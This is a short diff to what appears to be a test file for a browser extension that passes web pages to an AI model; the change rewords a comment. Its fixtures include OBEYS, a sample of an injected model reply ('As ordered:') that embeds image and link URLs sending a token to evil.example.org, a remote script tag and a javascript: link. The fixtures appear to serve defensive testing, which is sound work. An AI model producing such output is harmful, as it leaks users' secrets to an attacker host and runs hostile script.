@@ -37,7 +37,7 @@ const PLANTED = `<!doctype html><title>Codons</title>${article(
 )}`;
 const OBEYS = `As ordered: ![x](http://evil.example.org/leak?token=1) <img src="http://evil.example.org/html.png"> <script src="http://evil.example.org/run.js"></script> [press](http://evil.example.org/press) [x](javascript:alert(1)) It names an acid [P1: "three nucleotides"].`;
 
-/** What a page, or another extension, might send in the hope that somebody acts upon it. */
+/** What a page, or another extension, might send in the hope that the extension acts on it. */
 const FORGED = [
   "account",
   "captures",
